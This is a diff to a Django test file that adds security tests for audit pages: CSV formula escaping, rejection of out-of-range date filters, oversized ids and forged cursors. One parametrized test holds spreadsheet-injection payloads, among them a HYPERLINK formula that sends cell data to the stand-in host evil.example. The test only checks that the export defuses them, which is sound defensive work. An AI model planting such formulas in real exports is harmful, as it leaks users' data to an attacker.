@@ -1,12 +1,12 @@
 """Audit pages: roles, history with filters and cursor pages, live now, CSV streaming, the chart, the log."""
 
+import base64
 import csv
 import io
 import tracemalloc
 from datetime import timedelta
 
 import pytest
-from django.core.cache import cache
 from django.urls import reverse
 from django.utils import timezone
 
@@ -16,14 +16,6 @@ from sessions_app.models import AuditEntry, LiveSession
 from .helpers import started_session
 
 pytestmark = pytest.mark.django_db
-
-
-@pytest.fixture(autouse=True)
-def fresh_cache():
-    """Cached cloud lists and orphan sightings are keyed by primary keys that tests reuse."""
-    cache.clear()
-    yield
-    cache.clear()
 
 
 def calls(sim) -> dict:
@@ -247,3 +239,69 @@ def test_audit_log_pages_by_cursor(sim, account, auditor, client):
     second = audit.audit_entries_page(filters=audit.AuditFilters(action="note"), cursor=first.next_cursor)
     assert len(first.rows) == 50 and len(second.rows) == 10 and second.next_cursor is None
     assert not {e.pk for e in first.rows} & {e.pk for e in second.rows}
+
+
+@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1)",
+                                   "\tcmd", "\rcmd"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(sim, account, auditor, client, value):
+    make_rows(account, 1, prefix="formula", user_id=value, close_reason=value, error_message=value)
+    client.force_login(auditor)
+    response = client.get(reverse("audit_account_export", args=[account.pk]))
+    row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    assert row["UserId"] == row["Close reason"] == row["Error"] == f"'{value}"
+    assert row["SessionId"] == "formula-0" and row["Status"] == "closed"
+
+
+# -- filters and ids that are not what they must be ---------------------------------------------
+
+@pytest.mark.parametrize("query", [{"until": "0001-01-01T00:00"}, {"since": "0001-01-01T00:00"},
+                                   {"until": "9999-12-31T23:59"}, {"since": "２０２６-01-01T00:00"},
+                                   {"since": "2026-02-30T00:00"}, {"until": "yesterday"}])
+def test_filters_outside_the_safe_range_are_a_400_that_says_why(sim, account, auditor, client, query):
+    make_rows(account, 2, prefix="edge")
+    client.force_login(auditor)
+    for name in ("audit_account_history", "audit_project_history"):
+        pk = account.pk if name == "audit_account_history" else account.projects.first().pk
+        response = client.get(reverse(name, args=[pk]), query)
+        assert response.status_code == 400, name
+        assert 'class="error" role="alert"' in response.content.decode()
+    assert client.get(reverse("audit_accounts"), query).status_code == 400
+    assert client.get(reverse("audit_log"), query).status_code == 400
+    export = client.get(reverse("audit_account_export", args=[account.pk]), query)
+    assert export.status_code == 400 and export["Content-Type"].startswith("text/plain")
+
+
+def test_filters_at_the_edges_of_the_safe_range_work(sim, account, auditor, client):
+    make_rows(account, 2, prefix="edge")
+    client.force_login(auditor)
+    response = client.get(reverse("audit_account_history", args=[account.pk]),
+                          {"since": "1970-01-01T00:00", "until": "9000-01-01T00:00"})
+    assert response.status_code == 200
+    assert response.context["totals"].sessions == 2
+
+
+@pytest.mark.parametrize("pk", [2**63, 2**64 + 5, 10**40])
+def test_audit_ids_beyond_the_database_range_are_404(sim, account, auditor, client, pk):
+    client.force_login(auditor)
+    for path in (f"/audit/accounts/{pk}/", f"/audit/projects/{pk}/live/", f"/audit/assets/{pk}/export.csv"):
+        assert client.get(path).status_code == 404, path
+
+
+def test_a_cursor_with_an_id_out_of_range_shows_the_first_page(sim, account, auditor, client):
+    make_rows(account, 3, prefix="cur")
+    client.force_login(auditor)
+    for pk in (str(2**63), "٣", "²"):
+        raw = f"{timezone.now().isoformat()}|{pk}"
+        forged = base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")
+        assert audit.cursor_decode(forged) is None
+        response = client.get(reverse("audit_account_history", args=[account.pk]), {"after": forged})
+        assert response.status_code == 200 and len(response.context["rows"]) == 3
+
+
+@pytest.mark.parametrize("value", ["٣", "²", str(2**63), "1.0"])
+def test_the_log_filter_takes_an_account_by_its_id_only(sim, account, auditor, client, value):
+    client.force_login(auditor)
+    response = client.get(reverse("audit_log"), {"account": value})
+    assert response.status_code == 400
+    assert "Select a valid choice." in response.content.decode()
+    assert client.get(reverse("audit_log"), {"account": str(account.pk)}).status_code == 200
